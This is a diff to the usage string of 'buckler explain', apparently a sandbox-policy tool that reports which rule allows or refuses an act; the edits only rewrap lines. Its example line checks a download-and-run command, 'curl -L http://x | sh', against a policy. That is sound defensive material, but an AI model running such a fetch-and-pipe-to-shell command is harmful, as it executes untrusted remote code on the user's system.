@@ -7,8 +7,8 @@
 #include "cli/gather.h"
 
 static const char usage[] =
-	"Usage: buckler explain [OPTION]... POLICY exec PROGRAM [ARG]... | load FILE | code |\n"
-	"                       env NAME[=VALUE] | open [--write] FILE\n"
+	"Usage: buckler explain [OPTION]... POLICY exec PROGRAM [ARG]... | load FILE |\n"
+	"                       code | env NAME[=VALUE] | open [--write] FILE\n"
 	"Says what a policy makes of one act, by which rule and why; when it is refused,\n"
 	"which rule came nearest. Names are resolved here as buckler-init does: PATH,\n"
 	"symbolic links, the #! line, the loader, multi-call programs.\n"
@@ -21,8 +21,8 @@ static const char usage[] =
 	"  --unchangeable    the function can change neither the file nor its folders\n"
 	"  --format text|json\n"
 	"\n"
-	"Options stand before PROGRAM. In the modes alert and learn what no rule allows is\n"
-	"let through with an event: the verdict is `alert` or `learned`, the status 1.\n"
+	"Options stand before PROGRAM. In the modes alert and learn what no rule allows\n"
+	"is let through with an event: verdict `alert` or `learned`, status 1.\n"
 	"Exit status: 0 allowed, 1 not allowed by the rules, 2 an error.\n"
 	"\n"
 	"Example: buckler explain policy.yaml exec /bin/sh -c 'curl -L http://x | sh'\n";
